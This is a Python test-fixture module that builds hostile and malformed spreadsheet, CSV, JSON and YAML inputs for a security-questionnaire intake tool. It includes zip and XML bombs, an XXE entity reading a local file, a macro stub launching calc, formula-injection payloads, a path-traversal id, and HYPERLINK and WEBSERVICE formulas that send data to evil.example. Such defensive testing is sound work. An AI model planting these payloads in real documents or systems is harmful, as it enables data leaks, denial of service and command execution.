"""Builders of the hostile and broken input corpus: each writes one file into a folder and returns
its path. Large files are generated here, never stored; the two files only an office suite can make
are in static/ (see make_static.py). tests/test_hostile.py says what a user must see for each.
"""

from __future__ import annotations

import csv
import json
import re
import zipfile
from pathlib import Path

import openpyxl
from openpyxl.formatting.rule import CellIsRule
from openpyxl.styles import PatternFill
from openpyxl.worksheet.datavalidation import DataValidation

STATIC = Path(__file__).resolve().parent / "static"
QUESTIONS = [
    "Do you encrypt customer data at rest?",
    "Is multi-factor authentication enforced for administrators?",
    "Do you have a documented incident response plan?",
    "Are employees given security awareness training?",
]
WHOLE_SHEET = "A1:XFD1048576"


# ---------------------------------------------------------------- builders

def questionnaire_workbook(path: Path, questions=QUESTIONS, *, extra=None) -> Path:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Questions"
    ws.append(["Question", "Answer", "Comment"])
    for q in questions:
        ws.append([q, None, None])
    if extra:
        extra(wb, ws)
    wb.save(path)
    return path


def rewrite_zip(src: Path, dst: Path, replace: dict[str, bytes] | None = None,
                add: dict[str, bytes] | None = None) -> Path:
    replace, add = replace or {}, add or {}
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = replace.get(info.filename, zin.read(info))
            zout.writestr(info.filename, data)
        for name, data in add.items():
            zout.writestr(name, data)
    return dst


def _base(tmp: Path) -> Path:
    return questionnaire_workbook(tmp / "base.xlsx")


def _sheet_xml(path: Path) -> bytes:
    with zipfile.ZipFile(path) as zf:
        return zf.read("xl/worksheets/sheet1.xml")


def zip_bomb_ratio(tmp: Path) -> Path:
    """One part of 200 MB of zeros, deflated to ~200 KB (ratio ~1000)."""
    base = _base(tmp)
    dst = tmp / "bomb-ratio.xlsx"
    rewrite_zip(base, dst)
    with zipfile.ZipFile(dst, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as zf, \
            zf.open("xl/media/padding.bin", "w", force_zip64=True) as part:
        chunk = b"\0" * (1 << 20)
        for _ in range(200):
            part.write(chunk)
    return dst


def zip_bomb_declared(tmp: Path) -> Path:
    """A tiny file whose central directory declares a 40 GB sheet: refused from the sizes alone."""
    dst = tmp / "bomb-declared.xlsx"
    data = bytearray(_base(tmp).read_bytes())
    name = b"xl/worksheets/sheet1.xml"
    cd = data.rfind(b"PK\x01\x02", 0, data.rfind(name))  # central directory header of the sheet
    assert data[cd:cd + 4] == b"PK\x01\x02"
    data[cd + 24:cd + 28] = (0xFFFFFFF0).to_bytes(4, "little")  # uncompressed size: 4 GB
    dst.write_bytes(bytes(data))
    return dst


def many_parts(tmp: Path) -> Path:
    base = _base(tmp)
    return rewrite_zip(base, tmp / "many-parts.xlsx", add={f"xl/extra/p{i}.xml": b"<x/>" for i in range(12_000)})


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
<!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
<!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">]>
"""


def _strip_decl(xml: bytes) -> bytes:
    return re.sub(rb"^<\?xml[^>]*\?>\s*", b"", xml)


def xml_bomb_sheet(tmp: Path) -> Path:
    """Billion laughs in the worksheet: the first question cell is the entity &lol9; (3 GB expanded)."""
    base = _base(tmp)
    xml = _strip_decl(_sheet_xml(base)).replace(b"Do you encrypt customer data at rest?", b"&lol9;", 1)
    return rewrite_zip(base, tmp / "xml-bomb-sheet.xlsx",
                       replace={"xl/worksheets/sheet1.xml": BILLION_LAUGHS + xml})


def xml_bomb_workbook(tmp: Path) -> Path:
    """Billion laughs in xl/workbook.xml, the first part every reader parses."""
    base = _base(tmp)
    with zipfile.ZipFile(base) as zf:
        xml = _strip_decl(zf.read("xl/workbook.xml"))
    xml = re.sub(rb'name="Questions"', b'name="&lol9;"', xml, count=1)
    return rewrite_zip(base, tmp / "xml-bomb-workbook.xlsx", replace={"xl/workbook.xml": BILLION_LAUGHS + xml})


def xxe_file(tmp: Path) -> Path:
    """An external entity pointing at a local file: it must never be read into a question."""
    secret = tmp / "secret.txt"
    secret.write_text("TOP-SECRET-XXE-CONTENT")
    base = _base(tmp)
    doctype = f'<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY xxe SYSTEM "file://{secret}">]>\n'.encode()
    xml = _strip_decl(_sheet_xml(base)).replace(b"Do you encrypt customer data at rest?",
                                                b"Do you encrypt customer data at rest? &xxe;", 1)
    return rewrite_zip(base, tmp / "xxe.xlsx", replace={"xl/worksheets/sheet1.xml": doctype + xml})


def whole_sheet_validation(tmp: Path) -> Path:
    def extra(wb, ws):
        dv = DataValidation(type="list", formula1='"Yes,No,N/A"', allow_blank=True)
        dv.add(WHOLE_SHEET)
        ws.add_data_validation(dv)
    return questionnaire_workbook(tmp / "validation-whole-sheet.xlsx", extra=extra)


def whole_sheet_conditional_format(tmp: Path) -> Path:
    def extra(wb, ws):
        ws.conditional_formatting.add(WHOLE_SHEET, CellIsRule(operator="equal", formula=['"No"'],
                                                              fill=PatternFill(bgColor="FFC7CE")))
    return questionnaire_workbook(tmp / "cf-whole-sheet.xlsx", extra=extra)


def whole_sheet_merge(tmp: Path) -> Path:
    """A merged range claiming the whole sheet below the questions (a broken template)."""
    base = _base(tmp)
    xml = _sheet_xml(base).replace(b"</sheetData>", b'</sheetData><mergeCells count="1">'
                                                    b'<mergeCell ref="A20:XFD1048576"/></mergeCells>', 1)
    return rewrite_zip(base, tmp / "merge-whole-sheet.xlsx", replace={"xl/worksheets/sheet1.xml": xml})


def huge_dimension(tmp: Path) -> Path:
    """The sheet claims to span A1:XFD1048576 in its <dimension>; only four rows exist."""
    base = _base(tmp)
    xml = re.sub(rb'<dimension ref="[^"]*"\s*/>', b'<dimension ref="A1:XFD1048576"/>', _sheet_xml(base))
    return rewrite_zip(base, tmp / "huge-dimension.xlsx", replace={"xl/worksheets/sheet1.xml": xml})


def large_sheet(tmp: Path, rows: int = 100_000) -> Path:
    """rows distinct questions in a write-only workbook (the 100,000-row case)."""
    path = tmp / f"rows-{rows}.xlsx"
    wb = openpyxl.Workbook(write_only=True)
    ws = wb.create_sheet("Questions")
    ws.append(["ID", "Question", "Answer", "Comment"])
    for i in range(1, rows + 1):
        ws.append([f"Q-{i}", f"{QUESTIONS[i % len(QUESTIONS)][:-1]} for system {i}?", None, None])
    wb.save(path)
    return path


def too_many_rows(tmp: Path) -> Path:
    return large_sheet(tmp, rows=3_000)


def truncated(tmp: Path) -> Path:
    data = _base(tmp).read_bytes()
    dst = tmp / "truncated.xlsx"
    dst.write_bytes(data[: len(data) // 2])
    return dst


def encrypted(tmp: Path) -> Path:
    return STATIC / "encrypted.xlsx"


def legacy_xls(tmp: Path) -> Path:
    return STATIC / "legacy.xls"


def legacy_xls_renamed(tmp: Path) -> Path:
    dst = tmp / "really-old.xlsx"
    dst.write_bytes((STATIC / "legacy.xls").read_bytes())
    return dst


# A stand-in vbaProject.bin (OLE2 magic + macro source): enough to prove it is carried, never run.
VBA = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
       b"Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\nShell \"calc\"\r\nEnd Sub\r\n")


def xlsm_with_macros(tmp: Path) -> Path:
    base = _base(tmp)
    with zipfile.ZipFile(base) as zf:
        types = zf.read("[Content_Types].xml")
        rels = zf.read("xl/_rels/workbook.xml.rels")
    types = types.replace(b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                          b"application/vnd.ms-excel.sheet.macroEnabled.main+xml").replace(
        b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
    rels = rels.replace(b"</Relationships>", b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/'
                                             b'office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'
                                             b"</Relationships>")
    return rewrite_zip(base, tmp / "macros.xlsm", replace={"[Content_Types].xml": types,
                                                            "xl/_rels/workbook.xml.rels": rels},
                       add={"xl/vbaProject.bin": VBA})


def csv_cp1252(tmp: Path) -> Path:
    path = tmp / "legacy-encoding.csv"
    text = "Question,Answer\r\nDo you encrypt the données at rest – “always”?,\r\nIs MFA enforced for admins?,\r\n"
    path.write_bytes(text.encode("cp1252"))
    return path


def csv_utf16(tmp: Path) -> Path:
    path = tmp / "utf16.csv"
    path.write_bytes("Question\tAnswer\r\nIs data at rest encrypted (AES-256, ü)?\t\r\n".encode("utf-16"))
    return path


def wide_sheet(tmp: Path) -> Path:
    """16,000 columns: a question table in A:C and a stray value in column 16,000."""
    def extra(wb, ws):
        ws.cell(row=1, column=16_000, value="stray")
    return questionnaire_workbook(tmp / "wide-16000.xlsx", extra=extra)


def many_sheets(tmp: Path) -> Path:
    def extra(wb, ws):
        for i in range(250):
            wb.create_sheet(f"S{i}")
    return questionnaire_workbook(tmp / "many-sheets.xlsx", extra=extra)


INJECTION = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
             "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1"]


def injection_questions_csv(tmp: Path) -> Path:
    path = tmp / "injection-questions.csv"
    with path.open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["Question", "Answer", "Comment"])
        for payload in INJECTION:
            w.writerow([f"{payload} Do you encrypt data at rest?", "", ""])
    return path


def injection_questions_xlsx(tmp: Path) -> Path:
    def extra(wb, ws):
        for i, payload in enumerate(INJECTION[:4], start=2):
            ws.cell(row=i, column=1).value = f"{payload} {QUESTIONS[i - 2]}"
            ws.cell(row=i, column=1).data_type = "s"  # stored as text: a customer's literal payload
    return questionnaire_workbook(tmp / "injection-questions.xlsx", extra=extra)


def injection_library(tmp: Path) -> Path:
    path = tmp / "injection-library.csv"
    with path.open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["ID", "Question", "Answer", "Comment"])
        for i, payload in enumerate(INJECTION):
            w.writerow([f"inj-{i}", QUESTIONS[i % len(QUESTIONS)] if i < 4 else "Do you log access?", payload,
                        payload])
    return path


def duplicate_id_library(tmp: Path) -> Path:
    path = tmp / "duplicate-id.csv"
    with path.open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["ID", "Question", "Answer"])
        for i in range(1, 10_001):
            # data row 8,999 is line 9,000 of the file (line 1 is the header)
            fact_id = "fact-17" if i == 8_999 else f"fact-{i}"
            w.writerow([fact_id, f"Control question number {i}?", "Yes"])
    return path


def path_name(tmp: Path) -> Path:
    return questionnaire_workbook(tmp / "plain.xlsx")


def empty_file(tmp: Path) -> Path:
    path = tmp / "empty.xlsx"
    path.write_bytes(b"")
    return path


def pdf_renamed(tmp: Path) -> Path:
    path = tmp / "scan.xlsx"
    path.write_bytes(b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n")
    return path


def docx_renamed(tmp: Path) -> Path:
    path = tmp / "letter.xlsx"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("word/document.xml", "<w:document/>")
    return path


def binary_csv(tmp: Path) -> Path:
    path = tmp / "noise.csv"
    path.write_bytes(bytes(range(256)) * 40)
    return path


def wrong_extension(tmp: Path) -> Path:
    path = tmp / "questionnaire.exe"
    path.write_bytes(b"MZ\x90\x00")
    return path


def huge_cell(tmp: Path) -> Path:
    def extra(wb, ws):
        ws["A3"] = "Describe your backup strategy. " + "x" * 32_000  # Excel's cell maximum is 32,767
    return questionnaire_workbook(tmp / "huge-cell.xlsx", extra=extra)


def csv_huge_field(tmp: Path) -> Path:
    path = tmp / "huge-field.csv"
    path.write_text("Question,Answer\nDo you encrypt data?," + "y" * 200_000 + "\nIs MFA enforced?,\n")
    return path


def library_huge_field(tmp: Path) -> Path:
    path = tmp / "library-huge-field.csv"
    path.write_text("ID,Question,Answer\nf1,Do you encrypt data?," + "y" * 200_000 + "\n")
    return path


def library_deep_json(tmp: Path) -> Path:
    path = tmp / "deep.json"
    path.write_text("[" * 100_000 + "]" * 100_000)
    return path


def library_yaml_bomb(tmp: Path) -> Path:
    path = tmp / "bomb.yaml"
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    prev = "a"
    for name in "bcdefghi":
        lines.append(f"{name}: &{name} [" + ",".join([f"*{prev}"] * 9) + "]")
        prev = name
    lines.append("facts: *i")
    path.write_text("\n".join(lines) + "\n")
    return path


def library_bomb_xlsx(tmp: Path) -> Path:
    dst = tmp / "library-bomb.xlsx"
    wb = openpyxl.Workbook()
    wb.active.append(["ID", "Question", "Answer"])
    wb.active.append(["f1", "Do you encrypt data?", "Yes"])
    wb.save(dst)
    with zipfile.ZipFile(dst, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as zf, \
            zf.open("xl/media/padding.bin", "w", force_zip64=True) as part:
        for _ in range(100):
            part.write(b"\0" * (1 << 20))
    return dst


def external_link_formula(tmp: Path) -> Path:
    def extra(wb, ws):
        ws["B2"] = "='http://evil.example/[x.xlsx]Sheet1'!A1"
        ws["C3"] = '=WEBSERVICE("http://evil.example/leak")'
    return questionnaire_workbook(tmp / "external-links.xlsx", extra=extra)


def csv_json_library_injection_meta(tmp: Path) -> Path:
    path = tmp / "library.json"
    path.write_text(json.dumps([{"id": "../../etc/passwd", "question": "Do you encrypt?", "answer": "Yes"}]))
    return path


# ---------------------------------------------------------------- intake memory and time (#17 item 10, #18)
# Each was measured on the openpyxl reader: they took 1.0-1.7 GB (and up to minutes) inside the default
# limits. Built at test time, streamed into the zip, never held whole in memory.

def _stream_sheet(tmp: Path, dst_name: str, rows=None, after_data=None, shared=None) -> Path:
    """The 4-question base workbook with generated <row>s appended to its sheet data, generated XML
    after </sheetData> and generated <si> strings appended to its shared strings (chunks of bytes)."""
    base = _base(tmp)
    dst = tmp / dst_name
    with zipfile.ZipFile(base) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED, compresslevel=6) as zout:
        for info in zin.infolist():
            data = zin.read(info)
            if info.filename == "xl/worksheets/sheet1.xml" and (rows or after_data):
                head, tail = data.split(b"</sheetData>", 1)
                with zout.open(info.filename, "w", force_zip64=True) as out:
                    out.write(head)
                    for chunk in rows or ():
                        out.write(chunk)
                    out.write(b"</sheetData>")
                    for chunk in after_data or ():
                        out.write(chunk)
                    out.write(tail)
            elif info.filename == "[Content_Types].xml" and shared:
                zout.writestr(info, data.replace(b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType='
                                                 b'"application/vnd.openxmlformats-officedocument.spreadsheetml.'
                                                 b'sharedStrings+xml"/></Types>'))
            elif info.filename == "xl/_rels/workbook.xml.rels" and shared:
                zout.writestr(info, data.replace(b"</Relationships>", b'<Relationship Id="rIdSST" Type="http://'
                                                 b'schemas.openxmlformats.org/officeDocument/2006/relationships/'
                                                 b'sharedStrings" Target="sharedStrings.xml"/></Relationships>'))
            else:
                zout.writestr(info, data)
        if shared:  # openpyxl writes inline strings: the table is all generated
            with zout.open("xl/sharedStrings.xml", "w", force_zip64=True) as out:
                out.write(b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">')
                for chunk in shared:
                    out.write(chunk)
                out.write(b"</sst>")
    return dst


def _col(n: int) -> str:
    s = ""
    while n:
        n, r = divmod(n - 1, 26)
        s = chr(65 + r) + s
    return s


def three_million_cells(tmp: Path) -> Path:
    """3,000,000 one-digit cells (3,000 rows x 1,000 columns, inside the row and column limits), ~8 MB."""
    letters = [_col(c) for c in range(1, 1001)]

    def rows():
        for r in range(10, 3010):
            yield (f'<row r="{r}">' + "".join(f'<c r="{col}{r}"><v>{r % 10}</v></c>' for col in letters)
                   + "</row>").encode()
    return _stream_sheet(tmp, "cells-3m.xlsx", rows=rows())


def million_empty_rows(tmp: Path) -> Path:
    """1,048,571 cell-less <row> elements with a custom height below the questions (~3 MB)."""
    def rows():
        for start in range(6, 1_048_577, 10_000):
            yield "".join(f'<row r="{r}" ht="15" customHeight="1"/>'
                          for r in range(start, min(start + 10_000, 1_048_577))).encode()
    return _stream_sheet(tmp, "rows-1m-empty.xlsx", rows=rows())


def huge_shared_strings(tmp: Path) -> Path:
    """A 130 MB shared-strings table (1.4 million 90-character strings no cell uses), ~15 MB zipped."""
    def strings():
        for start in range(0, 1_400_000, 10_000):
            yield "".join(f"<si><t>Unused string {i:09d} {'lorem ipsum dolor sit amet ' * 2}</t></si>"
                          for i in range(start, start + 10_000)).encode()
    return _stream_sheet(tmp, "sst-130mb.xlsx", shared=strings())


def many_merges(tmp: Path) -> Path:
    """999,000 two-cell merged ranges (rows 10-4,004, columns A-ALL: inside every row/column limit and
    under the merged-area limit), ~5 MB."""
    def merges():
        yield b'<mergeCells count="999000">'
        for r in range(10, 5005):
            yield "".join(f'<mergeCell ref="{_col(c)}{r}:{_col(c + 1)}{r}"/>' for c in range(1, 401, 2)).encode()
        yield b"</mergeCells>"
    return _stream_sheet(tmp, "merges-999k.xlsx", after_data=merges())


def csv_26m_cells(tmp: Path) -> Path:
    """A 52 MB CSV of 26,000,000 one-character cells (26,000 rows x 1,000 columns)."""
    path = tmp / "cells-26m.csv"
    line = ",".join(["x"] * 1000) + "\n"
    with path.open("w", encoding="utf-8", newline="") as fh:
        fh.write("Question,Answer\n" + "\n".join(f"{q}," for q in QUESTIONS) + "\n")
        block = line * 1000
        for _ in range(26):
            fh.write(block)
    return path


INTAKE_BOMBS = [three_million_cells, million_empty_rows, huge_shared_strings, many_merges, csv_26m_cells]
